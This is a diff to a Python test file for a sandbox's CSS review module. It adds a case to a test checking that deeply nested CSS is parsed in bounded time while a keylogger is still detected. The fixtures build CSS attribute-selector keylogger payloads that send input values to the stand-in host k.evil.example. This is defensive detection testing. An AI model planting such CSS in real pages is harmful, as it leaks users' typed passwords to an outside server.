@@ -203,13 +203,16 @@ def test_a_css_keylogger_split_over_nested_rules_is_the_same_keylogger(css):
     assert [r[0] for r in rules_of(f"<style>{css}</style><input id=pw>")] == ["exfil.css-attribute-selector"]
 
 
-@pytest.mark.parametrize("opening", ["input{", "input,a,b{", "@media all{", "input{@supports (color:red){"])
+@pytest.mark.parametrize("opening", ["input{", "input,a,b{", "@media all{", "input{@supports (color:red){", "input:is("])
 def test_css_nested_thousands_deep_or_a_list_in_a_list_is_read_in_bounded_time(opening):
     """A list nested in a list doubles the written-out selector at each level, and thousands of
     levels went past Python's recursion (an internal error): both are read, the keylogger found."""
     from flowui_sandbox.sandbox.review.css import MAX_SELECTOR, stylesheet
 
-    css = opening * 3000 + "input&[value$=a]{background:url(https://k.evil.example/a)}" + "}" * opening.count("{") * 3000
+    if opening.endswith("("):  # a selector nested in itself: the rule's block comes after it
+        css = opening * 3000 + "[value$=a]" + ")" * 3000 + "{background:image-set('https://k.evil.example/a' 1x)}"
+    else:
+        css = opening * 3000 + "input&[value$=a]{background:url(https://k.evil.example/a)}" + "}" * opening.count("{") * 3000
     urls, selectors = stylesheet(css)  # no time asserted (noisy machines): the bounds below keep it linear
     assert [u.url for u in urls] == ["https://k.evil.example/a"]
     assert [s.attributes for s in selectors] == [frozenset({"value"})] and len(selectors[0].selector) <= MAX_SELECTOR
